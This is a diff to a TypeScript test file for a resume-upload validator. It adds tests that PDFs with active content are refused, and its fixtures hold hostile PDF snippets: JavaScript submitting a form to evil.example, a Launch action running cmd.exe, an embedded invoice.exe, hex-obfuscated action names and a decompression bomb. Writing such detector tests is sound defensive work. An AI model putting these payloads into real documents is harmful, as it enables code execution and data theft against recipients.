@@ -1,4 +1,4 @@
-import { deflateRawSync } from 'node:zlib';
+import { deflateRawSync, deflateSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { bytesWindow } from './file-window';
 import { hasResumeFormat, isDoc, isDocx, isPdf, ZIP_MAX_ENTRIES } from './resume-format';
@@ -26,13 +26,7 @@ const docOk = (content: Uint8Array) => isDoc(bytesWindow(content));
 describe('PDF by structure', () => {
   it('accepts a PDF with %%EOF at its end, and binary data inside its streams', async () => {
     expect(await pdfOk(pdf())).toBe(true);
-    const stream = bytes(
-      '2 0 obj <</Length 40>>\nstream\n',
-      'PK\x03\x04',
-      OLE2,
-      MZ,
-      '<html><script>\nendstream\nendobj\n',
-    );
+    const stream = bytes('2 0 obj <</Length 40>>\nstream\n', OLE2, MZ, '<html><script>\nendstream\nendobj\n');
     expect(await pdfOk(bytes(pdf('').subarray(0, 9), stream, 'trailer <<>>\n%%EOF'))).toBe(true);
   });
 
@@ -57,10 +51,11 @@ describe('PDF by structure', () => {
     expect(await pdfOk(pdf('\x7fELF\n'))).toBe(false);
   });
 
-  it('finds a signature cut in two by the scan window, and a stream that never ends hides nothing after it', async () => {
+  it('finds a signature cut in two by the scan window, and a stream that never ends hides nothing', async () => {
     const pad = 'x'.repeat(64 * 1024 - 11);
     expect(await pdfOk(pdf(`${pad}PK\x03\x04`))).toBe(false);
-    expect(await pdfOk(pdf(`${pad}stream\nPK\x03\x04 endstream\n`))).toBe(true);
+    expect(await pdfOk(pdf(`${pad}<</Length 16>>stream\n<html> \x7fELF endstream\n`))).toBe(true);
+    expect(await pdfOk(pdf(`${pad}<</Length 16>>stream\n<html> \x7fELF`))).toBe(true);
     expect(await pdfOk(pdf('endstream PK\x03\x04\n'))).toBe(false);
   });
 
@@ -70,6 +65,84 @@ describe('PDF by structure', () => {
     expect(await pdfOk(new Uint8Array())).toBe(false);
     expect(await pdfOk(MZ)).toBe(false);
   });
+});
+
+/** An object whose dictionary is `dictionary` and whose stream holds `data` (deflated when `flate`). */
+function streamObject(dictionary: string, data: string | Uint8Array, flate = false): Uint8Array {
+  const raw = typeof data === 'string' ? bytes(data) : data;
+  const stored = flate ? new Uint8Array(deflateSync(raw)) : raw;
+  const filter = flate ? ' /Filter /FlateDecode' : '';
+  return bytes(
+    `4 0 obj\n<<${dictionary} /Length ${String(stored.length)}${filter}>>\nstream\n`,
+    stored,
+    '\nendstream\nendobj\n',
+  );
+}
+const pdfWith = (...parts: (string | Uint8Array)[]) =>
+  bytes('%PDF-1.7\n', ...parts, 'trailer <</Root 1 0 R>>\n%%EOF\n');
+
+describe('PDF active content', () => {
+  it.each([
+    [
+      'an /OpenAction running JavaScript',
+      '1 0 obj <</Type /Catalog /OpenAction 5 0 R /Names <</JavaScript 6 0 R>>>> endobj\n5 0 obj <</S /JavaScript /JS (app.alert(1);this.submitForm("http://evil.example/"))>> endobj\n',
+    ],
+    ['a Launch action', '5 0 obj <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>> endobj\n'],
+    ['a hex-escaped /J#61vaScript', '5 0 obj <</S /J#61vaScript /J#53 (app.alert(1))>> endobj\n'],
+    [
+      'an /OpenAction with a URI action',
+      '1 0 obj <</Type /Catalog /OpenAction <</S /URI /URI (http://evil.example/)>>>> endobj\n',
+    ],
+    ['an /OpenAction to another object', '1 0 obj <</Type /Catalog /OpenAction 5 0 R>> endobj\n'],
+    ['additional actions (/AA)', '3 0 obj <</Type /Page /AA <</O 5 0 R>>>> endobj\n'],
+    ['/EmbeddedFiles', '1 0 obj <</Names <</EmbeddedFiles <</Names [(invoice.exe) 7 0 R]>>>>>> endobj\n'],
+    ['/RichMedia', '8 0 obj <</Subtype /RichMedia>> endobj\n'],
+    ['an XFA form', '1 0 obj <</AcroForm <</XFA 9 0 R>>>> endobj\n'],
+    ['an encrypted PDF', 'trailer <</Encrypt <</Filter /Standard /V 2>>>>\n'],
+  ])('refuses %s (probe F11)', async (_label, objects) => {
+    expect(await pdfOk(pdfWith(objects))).toBe(false);
+  });
+
+  it('refuses an embedded file stream and JavaScript kept in a compressed object stream (probe F11)', async () => {
+    expect(await pdfOk(pdfWith(streamObject(' /Type /EmbeddedFile', MZ)))).toBe(false);
+    const objects = '5 0 6 40 <</S /JavaScript /JS (app.alert(1))>> <</Type /Catalog /OpenAction 5 0 R>>';
+    expect(await pdfOk(pdfWith(streamObject(' /Type /ObjStm /N 2 /First 9', objects, true)))).toBe(false);
+    expect(await pdfOk(pdfWith(streamObject(' /Type /ObjStm /N 1 /First 9', '5 0 <</Type /Font>>', true)))).toBe(true);
+  });
+
+  it('accepts a destination /OpenAction, links, and the names of active content inside a string', async () => {
+    const catalog = '1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit] /Info 2 0 R>> endobj\n';
+    const link = '4 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://acme.example/)>>>> endobj\n';
+    const info = '2 0 obj <</Title (Notes on /JavaScript and /Launch \\) /JS)>> endobj\n';
+    expect(await pdfOk(pdfWith(catalog, link, info))).toBe(true);
+    expect(await pdfOk(pdfWith(streamObject('', 'BT /F1 12 Tf (Giulia /JS) Tj ET', true)))).toBe(true);
+  });
+
+  it('refuses a zip inside the decoded bytes of a stream, raw or deflated (probe F13a)', async () => {
+    const zip = zipWith([{ name: 'invoice.exe', data: MZ }]);
+    expect(await pdfOk(pdfWith(streamObject('', zip)))).toBe(false);
+    expect(await pdfOk(pdfWith(streamObject('', zip, true)))).toBe(false);
+  });
+
+  it('reads `stream` only after a dictionary with /Length, never in a comment or a string (probe F13b)', async () => {
+    const comment = '%stream\n<html><body><script>alert(1)</script>PK\x03\x04\x7fELF</body></html>\n%endstream\n';
+    expect(await pdfOk(pdfWith(comment))).toBe(false);
+    expect(await pdfOk(pdfWith('1 0 obj (a string\nstream\n) endobj\n<html>\nendstream\n'))).toBe(false);
+    expect(await pdfOk(pdfWith('1 0 obj <</Type /X>>\nstream\n<script>alert(1)</script>\nendstream\n'))).toBe(false);
+  });
+
+  it('refuses FlateDecode streams that expand past PDF_MAX_INFLATED_BYTES in all, without holding them', async () => {
+    const zeros = new Uint8Array(deflateSync(new Uint8Array(140 * 1024 * 1024)));
+    const object = (number: number) =>
+      bytes(
+        `${String(number)} 0 obj\n<</Length ${String(zeros.length)} /Filter /FlateDecode>>\nstream\n`,
+        zeros,
+        '\nendstream\nendobj\n',
+      );
+    const started = performance.now();
+    expect(await pdfOk(pdfWith(object(4), object(5)))).toBe(false);
+    console.log(`PDF of 280 MB of FlateDecode zeros refused in ${(performance.now() - started).toFixed(0)} ms`);
+  }, 30_000);
 });
 
 describe('DOCX by structure', () => {
